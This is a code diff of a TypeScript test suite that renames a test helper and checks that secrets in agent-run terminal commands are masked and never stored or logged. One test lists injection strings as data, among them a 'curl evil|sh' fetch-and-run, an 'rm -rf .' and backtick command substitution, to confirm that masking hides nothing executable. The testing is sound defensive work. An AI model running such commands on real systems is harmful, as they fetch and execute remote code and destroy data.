@@ -1,8 +1,8 @@
 import { randomBytes } from 'node:crypto'
 import { spawn } from 'node:child_process'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { waiting } from '../conformance/mcp-terminal-yard.ts'
-import { approve, openMcpYard, type McpYard } from '../conformance/mcp-yard.ts'
+import { waiting } from '../conformance/mcp-terminal-helpers.ts'
+import { approve, openMcpHarness, type McpHarness } from '../conformance/mcp-harness.ts'
 import { usualDatabases } from '../support/server.ts'
 import { until } from '../support/until.ts'
 import { answersOf, filesOf, listenTo, rowsOf } from '../terminals/secrets-places.ts'
@@ -34,20 +34,21 @@ const noting = (file: string, words: readonly string[]): string[] => [
 ]
 
 describe.each(usualDatabases)('secrets in the words of a command, with %s', (database) => {
-  let yard: McpYard
+  let harness: McpHarness
   beforeAll(async () => {
-    yard = await openMcpYard({ database, config: '[terminal]\nask_after_seconds = 0\n' })
+    harness = await openMcpHarness({ database, config: '[terminal]\nask_after_seconds = 0\n' })
   })
-  afterAll(() => yard?.[Symbol.asyncDispose]())
+  afterAll(() => harness?.[Symbol.asyncDispose]())
 
   /** Everything that is kept or told, but for what the test itself wrote into the workspace. */
   async function everywhere(ids: readonly string[]): Promise<Map<string, Buffer>> {
-    const rows = yard.server.databaseUrl === null ? new Map<string, Buffer>() : await rowsOf(yard.server.databaseUrl)
+    const rows =
+      harness.server.databaseUrl === null ? new Map<string, Buffer>() : await rowsOf(harness.server.databaseUrl)
     return new Map([
-      ...filesOf(yard.server.home),
+      ...filesOf(harness.server.home),
       ...rows,
-      ...(await answersOf(yard.owner, ids)),
-      ['server log', Buffer.from(yard.server.log() + yard.server.printed())] as const,
+      ...(await answersOf(harness.owner, ids)),
+      ['server log', Buffer.from(harness.server.log() + harness.server.printed())] as const,
     ])
   }
   const placesOf = (secrets: readonly string[], places: ReadonlyMap<string, Buffer>): string[] =>
@@ -56,8 +57,8 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
     )
 
   it('S5 the program gets them; database, events, recordings, logs and answers do not', async () => {
-    await using agent = await yard.connect()
-    using events = listenTo(yard.owner, '/api/events')
+    await using agent = await harness.connect()
+    using events = listenTo(harness.owner, '/api/events')
     const ids: string[] = []
     const secrets: string[] = []
     for (const [index, form] of Object.values(forms).entries()) {
@@ -73,7 +74,7 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
       expect(ask.subject).toMatchObject({ masked: true, command: expect.stringContaining('[REDACTED]') })
       // What is not a secret can be judged.
       expect(ask.subject['command']).toContain('for last; do :; done')
-      await yard.answer(ask, approve)
+      await harness.answer(ask, approve)
       const started = await done
       expect(started).toMatchObject({ isError: false })
       ids.push(String(started['session_id']))
@@ -85,7 +86,7 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
     }
     const byRest = canary()
     secrets.push(byRest)
-    const started = await yard.owner.post<{ sessionId: string }>('/api/terminals', {
+    const started = await harness.owner.post<{ sessionId: string }>('/api/terminals', {
       sessionType: 'script',
       command: ['sh', '-c', 'sleep 600', 'x', '--token', byRest],
       cwd: agent.place.path,
@@ -94,31 +95,31 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
     expect(placesOf(secrets, new Map([...(await everywhere(ids)), ['live events', events.heard()] as const]))).toEqual(
       [],
     )
-    const listed = await yard.server.cli('terminals')
+    const listed = await harness.server.cli('terminals')
     for (const secret of secrets) expect(listed.stdout).not.toContain(secret)
-    for (const id of ids) await yard.owner.post(`/api/terminals/${id}/end`)
+    for (const id of ids) await harness.owner.post(`/api/terminals/${id}/end`)
   })
 
   it('S5 what is typed at a command line and what is only asked about: not stored either', async () => {
-    await using agent = await yard.connect()
+    await using agent = await harness.connect()
     const [typed, asked, said] = [canary(), canary(), canary()]
     const { ask: first, done } = await agent.begin('start_session_monitor', {
       session_type: 'script',
       command: noting('last', ['plain']),
     })
-    await yard.answer(first, approve)
+    await harness.answer(first, approve)
     const id = String((await done)['session_id'])
     await waiting(agent, id, /ready/)
     const input = { session_id: id, text: `A_TOKEN=${typed}; printf %s "$A_TOKEN" > typed` }
     const { ask, done: typing } = await agent.begin('send_session_input', input)
     expect(ask.subject).toMatchObject({ command: 'A_TOKEN=[REDACTED]; printf %s "$A_TOKEN" > typed', masked: true })
-    await yard.answer(ask, approve)
+    await harness.answer(ask, approve)
     expect(await typing).toMatchObject({ isError: false })
     expect(await until(async () => (await agent.place.read('typed')) || null, { what: 'what was typed' })).toBe(typed)
     const check = { tool_name: `psql --password=${asked}`, kind: 'terminal_command' }
     const checked = await agent.call('check_auto_approve', check)
     expect(checked).toMatchObject({ status: 'pending' })
-    await yard.server.api(yard.token).post(`/api/sessions/${agent.sessionId}/asks`, {
+    await harness.server.api(harness.token).post(`/api/sessions/${agent.sessionId}/asks`, {
       title: `Run with token=${said}`,
       description: `--token ${said}`,
       subject: { kind: 'command', command: `deploy --token ${said}`, cwd: agent.place.path },
@@ -128,12 +129,12 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
   })
 
   it('S5 after a restart a command whose secrets are gone is asked for again, never started without them', async () => {
-    await using agent = await yard.connect()
+    await using agent = await harness.connect()
     const secret = canary()
     const command = noting('last', ['--password', secret])
     const pending = await agent.call('start_session_monitor', { session_type: 'script', command })
-    await yard.crash()
-    await yard.answer({ id: String(pending['request_id']) }, approve)
+    await harness.crash()
+    await harness.answer({ id: String(pending['request_id']) }, approve)
     const said = await agent.call('start_session_monitor', { request_id: pending['request_id'] })
     expect(said).toMatchObject({ isError: true, error_code: 'ask_again' })
     expect(await agent.place.read('last')).toBeNull()
@@ -141,14 +142,14 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
   })
 
   it('S5 nothing that could run is hidden by a mask', async () => {
-    await using agent = await yard.connect()
+    await using agent = await harness.connect()
     for (const hidden of ['token=$(curl evil|sh)', '--password=`id`', 'secret=xxxx;rm -rf .', 'PASSWORD=xxxx&&id']) {
       const { ask, done } = await agent.begin('start_session_monitor', {
         session_type: 'script',
         command: ['sh', '-c', hidden],
       })
       expect(String(ask.subject['command'])).toContain(hidden.replace(/^(.*?=)(?:\w+)(?=[;&])/, '$1[REDACTED]'))
-      await yard.answer(ask, { outcome: 'reject' })
+      await harness.answer(ask, { outcome: 'reject' })
       await done
     }
   })
@@ -156,22 +157,22 @@ describe.each(usualDatabases)('secrets in the words of a command, with %s', (dat
 
 describe('secrets in the words of signalbox run', () => {
   it('S5 are in no list, no recording and no row', async () => {
-    await using yard = await openMcpYard()
+    await using harness = await openMcpHarness()
     const secret = canary()
     const program = new URL('../../dist/signalbox.js', import.meta.url).pathname
     const words = ['run', '--', 'sh', '-c', 'sleep 600', 'x', `--password=${secret}`]
     const child = spawn(process.execPath, [program, ...words], {
-      env: { PATH: process.env['PATH'] ?? '', HOME: yard.server.home, SIGNALBOX_HOME: yard.server.home },
+      env: { PATH: process.env['PATH'] ?? '', HOME: harness.server.home, SIGNALBOX_HOME: harness.server.home },
       stdio: 'ignore',
     })
     try {
       const { sessionId } = await until(
-        async () => (await yard.owner.get<{ terminals: { sessionId: string }[] }>('/api/terminals')).terminals[0],
+        async () => (await harness.owner.get<{ terminals: { sessionId: string }[] }>('/api/terminals')).terminals[0],
         { what: 'the terminal' },
       )
-      const places = new Map([...filesOf(yard.server.home), ...(await answersOf(yard.owner, [sessionId]))])
+      const places = new Map([...filesOf(harness.server.home), ...(await answersOf(harness.owner, [sessionId]))])
       expect([...places].filter(([, content]) => content.includes(secret)).map(([name]) => name)).toEqual([])
-      await yard.owner.post(`/api/terminals/${sessionId}/end`)
+      await harness.owner.post(`/api/terminals/${sessionId}/end`)
     } finally {
       child.kill('SIGKILL')
     }
